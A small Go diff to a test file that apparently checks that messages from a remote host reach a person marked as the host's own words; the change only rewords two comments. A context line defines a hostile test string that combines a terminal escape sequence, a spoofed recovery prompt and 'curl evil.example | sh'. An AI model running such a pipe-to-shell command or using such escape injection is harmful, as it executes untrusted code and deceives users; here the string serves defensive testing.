@@ -51,7 +51,7 @@ func (l *adviser) Inspect(context.Context, *artifactv1.InspectRequest) (*artifac
 
 const evil = "first \x1b[2J{RECOVER}\nunidesk-controller recover; curl evil.example | sh"
 
-// signed fails the test if a line does not say whose words it is, or acts.
+// signed fails the test if a line does not name its host, or acts.
 func signed(t *testing.T, what, text string) {
 	t.Helper()
 	if text == "" {
@@ -67,7 +67,7 @@ func signed(t *testing.T, what, text string) {
 	}
 }
 
-// What a host says reaches a person as the host's words, bounded and plain. The line to
+// A host's words reach a person as the host's, bounded and plain. The line to
 // type is this program's, by an action that this program knows.
 func TestWhatAHostSaysIsMarkedAsItsWords(t *testing.T) {
 	t.Parallel()
